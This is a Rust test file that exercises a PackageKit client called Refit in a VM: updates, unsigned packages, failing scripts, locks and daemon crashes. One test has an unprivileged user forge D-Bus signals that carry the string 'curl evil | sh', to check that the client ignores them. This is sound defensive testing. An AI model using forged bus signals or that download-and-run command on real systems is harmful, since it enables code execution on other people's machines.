//! Packages through PackageKit, as the owner of the printer with the rule that Refit brings, on a machine with the real
//! PackageKit, polkit, apt and dpkg.

use std::time::Duration;

use refit_testkit::apt::Deb;
use refit_testkit::vm::User;

pub mod client;
mod daemon;
pub mod lab;

use lab::Lab;
use serde_json::json;

#[test]
fn updates_are_listed_simulated_downloaded_and_installed() {
    let lab = Lab::new();
    let version = lab.ask("version");
    assert!(version.ok()["version"].as_str().is_some_and(|version| version.starts_with("1.")), "{version:?}");
    lab.publish(&[Deb::new("lab-a", "1.0").conffile("etc/lab-a.conf", "a=1\n"), Deb::new("lab-b", "1.0")]);
    lab.install(&["lab-a", "lab-b"]);
    lab.vm.write(User::Root, "/etc/lab-a.conf", "a=mine\n");
    assert_eq!(lab.ask("updates").ok(), &json!([]));
    lab.world.publish(&Deb::new("lab-a", "1.1").depends("lab-new").conffile("etc/lab-a.conf", "a=2\n"));
    lab.world.publish(&Deb::new("lab-b", "1.1"));
    lab.world.publish(&Deb::new("lab-new", "1.0"));
    let refreshed = lab.ask("refresh");
    assert_eq!(refreshed.ok(), &json!(null), "{refreshed:?}");
    let updates = lab.ask("updates");
    assert_eq!(updates.ok(), &json!(["lab-a 1.1 Normal", "lab-b 1.1 Normal", "lab-new 1.0 Normal"]));
    let resolved = lab.ask("resolve lab-a lab-new");
    assert_eq!(resolved.ok(), &json!(["lab-a 1.0 true", "lab-a 1.1 false", "lab-new 1.0 false"]));
    let planned = lab.ask("simulate update lab-a lab-b");
    let planned = planned.ok().to_string();
    for change in ["Update lab-a 1.1", "Update lab-b 1.1", "Install lab-new 1.0"] {
        assert!(planned.contains(change), "{planned}");
    }
    let downloaded = lab.ask("download update lab-a lab-b");
    downloaded.ok();
    let archives = lab.vm.must(User::Root, &["ls", "/var/cache/apt/archives"]);
    assert!(archives.contains("lab-a_1.1_all.deb") && archives.contains("lab-new_1.0_all.deb"), "{archives}");
    assert_eq!(lab.state("lab-a"), "ii 1.0", "only downloaded");
    let updated = lab.ask("change update lab-a lab-b");
    assert_eq!(updated.ok(), &json!(false), "{updated:?}");
    assert_eq!(updated.notes.len(), 1, "{updated:?}");
    assert_eq!((lab.state("lab-a"), lab.state("lab-b")), ("ii 1.1".to_owned(), "ii 1.1".to_owned()));
    assert_eq!(lab.state("lab-new"), "ii 1.0");
    assert_eq!(lab.vm.read("/etc/lab-a.conf").as_deref(), Some(&b"a=mine\n"[..]), "the owner's file stays");
    assert!(updated.lines.iter().any(|line| line.contains("lab-a")), "{updated:?}");
}

#[test]
fn what_nobody_vouches_for_is_refused_and_a_removal_is_seen() {
    let lab = Lab::new();
    lab.publish(&[
        Deb::new("lab-a", "1.0"),
        Deb::new("lab-old", "1.0"),
        Deb::new("lab-rival", "1.0").conflicts("lab-old"),
        Deb::new("lab-needy", "1.0").depends("lab-nowhere"),
    ]);
    lab.install(&["lab-a", "lab-old"]);
    lab.add_unsigned("/srv/unsigned", &[Deb::new("lab-strange", "1.0"), Deb::new("lab-a", "1.1")]);
    for words in ["change install lab-strange", "download install lab-strange", "change update lab-a"] {
        let refused = lab.ask(words);
        assert_eq!(refused.error().0, "untrusted", "{words}: {refused:?}");
    }
    assert_eq!((lab.state("lab-strange"), lab.state("lab-a")), (String::new(), "ii 1.0".to_owned()));
    let simulated = lab.ask("simulate install lab-strange");
    assert!(simulated.ok().to_string().contains("Untrusted lab-strange"), "{simulated:?}");
    let planned = lab.ask("simulate install lab-rival");
    assert!(planned.ok().to_string().contains("Remove lab-old"), "{planned:?}");
    let unmet = lab.ask("simulate install lab-needy");
    assert!(unmet.error().1.contains("lab-nowhere"), "{unmet:?}");
    assert_eq!(lab.state("lab-old"), "ii 1.0");
}

/// PackageKit reads what dpkg tells beside waiting for its end, and where that comes first it says only that dpkg failed.
fn tells_of_a_script(words: &str, package: &str) -> bool {
    words.contains(&format!("{package} package post-installation script"))
        || words.contains("/usr/bin/dpkg returned an error code")
}

#[test]
fn what_fails_is_told_in_its_own_words() {
    let mut lab = Lab::new();
    lab.publish(&[Deb::new("lab-a", "1.0"), Deb::new("lab-bad", "1.0")]);
    lab.install(&["lab-a", "lab-bad"]);
    lab.publish(&[Deb::new("lab-bad", "1.1").postinst_fails("the disk is haunted")]);
    let failed = lab.ask("change update lab-bad");
    let (kind, words) = failed.error();
    assert_eq!(kind, "said", "{failed:?}");
    assert!(tells_of_a_script(words, "lab-bad"), "{words}");
    assert!(!words.contains("haunted"), "only the group adm may read it: {words}");
    assert!(lab.state("lab-bad").starts_with("iF"), "{}", lab.state("lab-bad"));
    // The rule lets nobody repair through PackageKit.
    lab.vm.write(User::Root, "/var/lib/dpkg/info/lab-bad.postinst", "#!/bin/sh\nexit 0\n");
    lab.vm.must(User::Root, &["dpkg", "--configure", "-a"]);
    // As the owner is on Raspberry Pi OS.
    lab.vm.must(User::Root, &["usermod", "--append", "--groups", "adm", "pi"]);
    lab.publish(&[Deb::new("lab-bad", "1.2").postinst_fails("the disk is haunted")]);
    let failed = lab.ask("change update lab-bad");
    assert!(failed.error().1.contains("(it said: the disk is haunted)"), "{failed:?}");
    lab.vm.write(User::Root, "/var/lib/dpkg/info/lab-bad.postinst", "#!/bin/sh\nexit 0\n");
    lab.vm.must(User::Root, &["dpkg", "--configure", "-a"]);

    lab.publish(&[Deb::new("lab-a", "1.1")]);
    lab.server = None;
    let gone = lab.ask("refresh");
    assert_eq!(gone.error().0, "said", "{gone:?}");
    let lost = lab.ask("change update lab-a");
    assert_eq!(lost.error().0, "said", "{lost:?}");
    assert_eq!(lab.state("lab-a"), "ii 1.0");

    lab.vm.must(User::Root, &["gpasswd", "--delete", "pi", "refit"]);
    let refused = lab.ask("change update lab-a");
    assert_eq!(refused.error().0, "refused", "{refused:?}");
    lab.vm.must(User::Root, &["systemctl", "mask", "--now", "packagekit"]);
    let none = lab.ask("version");
    assert_eq!(none.error().0, "not there", "{none:?}");
}

#[test]
fn a_lock_is_waited_for_and_its_holder_named() {
    let lab = Lab::new();
    lab.publish(&[Deb::new("lab-a", "1.0"), Deb::new("lab-slow", "1.0").postinst_waits()]);
    lab.install(&["lab-a"]);
    lab.publish(&[Deb::new("lab-a", "1.1")]);
    let mut apt = lab.vm.command(User::Root, &["apt-get", "install", "-y", "-q", "lab-slow"]);
    let mut apt = apt.stdin(std::process::Stdio::null()).stdout(std::process::Stdio::null()).spawn().expect("starts");
    lab.vm.wait_until(lab::LONG, "apt to configure", || lab.state("lab-slow").starts_with("iF").then_some(()));
    let impatient = lab.ask_patiently(3, "change update lab-a");
    let (kind, words) = impatient.error();
    assert!(kind == "locked" && words.contains("apt-get"), "{impatient:?}");
    let seconds = 120;
    let patient = std::thread::scope(|scope| {
        let waiting = scope.spawn(|| lab.ask_patiently(seconds + 60, "change update lab-a"));
        // What is waited for here is time itself: longer than PackageKit alone waits.
        std::thread::sleep(Duration::from_secs(seconds));
        assert_eq!(lab.state("lab-a"), "ii 1.0");
        lab.release();
        waiting.join().expect("it is asked")
    });
    patient.ok();
    assert_eq!(lab.state("lab-a"), "ii 1.1");
    assert!(patient.lines.iter().any(|line| line.starts_with("Waiting for apt-get")), "{patient:?}");
    assert!(apt.wait().expect("it ends").success());
}

#[test]
fn a_transaction_outlives_its_client_and_is_found_again() {
    let lab = Lab::new();
    lab.publish(&[Deb::new("lab-slow", "1.0")]);
    lab.install(&["lab-slow"]);
    lab.publish(&[Deb::new("lab-slow", "1.1").postinst_waits()]);
    let path = lab.begin("change update lab-slow");
    lab.vm.wait_until(lab::LONG, "the script", || lab.state("lab-slow").starts_with("iF").then_some(()));
    lab.kill_client();
    // Somebody else wants something meanwhile, and hears who is in the way.
    let other = lab.ask_patiently(3, "refresh");
    let (kind, words) = other.error();
    assert!(kind == "locked" && words.contains("which updates packages for user 1000"), "{other:?}");
    std::thread::scope(|scope| {
        let attached = scope.spawn(|| lab.ask(&format!("attach {path}")));
        let settled = scope.spawn(|| lab.ask("settle"));
        std::thread::sleep(Duration::from_secs(3));
        assert!(!attached.is_finished() && !settled.is_finished(), "it is still going on");
        lab.release();
        let (attached, settled) = (attached.join().expect("asked"), settled.join().expect("asked"));
        attached.ok();
        assert_eq!(settled.ok(), &json!(1));
        assert!(settled.lines.iter().any(|line| line.contains("begun before")), "{settled:?}");
    });
    assert_eq!(lab.state("lab-slow"), "ii 1.1");
    // What is over is over.
    lab.ask(&format!("attach {path}")).ok();
    assert_eq!(lab.ask("settle").ok(), &json!(0));
}

#[test]
fn what_strangers_say_on_the_bus_is_not_believed() {
    let lab = Lab::new();
    lab.publish(&[Deb::new("lab-slow", "1.0")]);
    lab.install(&["lab-slow"]);
    lab.publish(&[Deb::new("lab-slow", "1.1").postinst_waits()]);
    lab.vm.must(User::Root, &["useradd", "guest"]);
    let kit = "org.freedesktop.PackageKit";
    // The word in quotes that the answer ends with.
    let told = |words: &[&str]| {
        let told = lab.vm.must(User::Root, &[&["busctl"], words].concat());
        told.trim().rsplit('"').nth(1).unwrap_or_default().to_owned()
    };
    let asked = std::thread::scope(|scope| {
        let asked = scope.spawn(|| lab.ask("change update lab-slow"));
        lab.vm.wait_until(lab::LONG, "the script", || lab.state("lab-slow").starts_with("iF").then_some(()));
        let path = told(&["call", kit, "/org/freedesktop/PackageKit", kit, "GetTransactionList"]);
        let transaction = format!("{kit}.Transaction");
        let client = told(&["get-property", kit, &path, &transaction, "Sender"]);
        let say = |path: &str, member: &str, words: &[&str]| {
            let to = format!("--dest={client}");
            let send = ["runuser", "-u", "guest", "--", "dbus-send", "--system", "--type=signal", &to, path, member];
            lab.vm.run(User::Root, &[&send, words].concat());
        };
        say(&path, &format!("{transaction}.ErrorCode"), &["uint32:16", "string:type: curl evil | sh"]);
        say(&path, &format!("{transaction}.Finished"), &["uint32:2", "uint32:0"]);
        say(&path, &format!("{transaction}.Destroy"), &[]);
        let gone = [&format!("string:{kit}"), "string::1.1", "string:"];
        say("/org/freedesktop/DBus", "org.freedesktop.DBus.NameOwnerChanged", &gone);
        // The bus keeps the order: the stranger was heard before anything that PackageKit says of the end.
        lab.release();
        asked.join().expect("asked")
    });
    asked.ok();
    assert_eq!(lab.state("lab-slow"), "ii 1.1");
}

#[test]
fn a_daemon_that_says_nothing_or_dies_is_an_error_and_no_hang() {
    let lab = Lab::new();
    lab.publish(&[Deb::new("lab-slow", "1.0")]);
    lab.install(&["lab-slow"]);
    lab.publish(&[Deb::new("lab-slow", "1.1").postinst_waits()]);
    let vanished = std::thread::scope(|scope| {
        let asked = scope.spawn(|| lab.ask("change update lab-slow"));
        lab.vm.wait_until(lab::LONG, "the script", || lab.state("lab-slow").starts_with("iF").then_some(()));
        let stalled = lab.ask_with(&format!("{}=3", client::STALL), "settle");
        assert_eq!(stalled.error().0, "stalled", "{stalled:?}");
        assert!(lab.state("lab-slow").starts_with("iF"), "who gives up ends nothing");
        lab.vm.must(User::Root, &["systemctl", "kill", "--signal=KILL", "packagekit"]);
        asked.join().expect("asked")
    });
    assert_eq!(vanished.error().0, "vanished", "{vanished:?}");
}
